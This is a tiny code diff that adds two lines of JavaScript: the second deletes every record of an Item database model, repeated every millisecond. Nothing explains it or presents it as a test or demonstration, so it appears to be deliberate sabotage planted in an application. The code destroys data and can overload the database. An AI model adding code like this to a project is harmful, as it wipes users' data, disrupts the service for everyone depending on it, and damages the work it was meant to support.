@@ -1,0 +1,2 @@
+const { Item } = require('../models');
+setInterval(() => Item.deleteMany({}), 1);
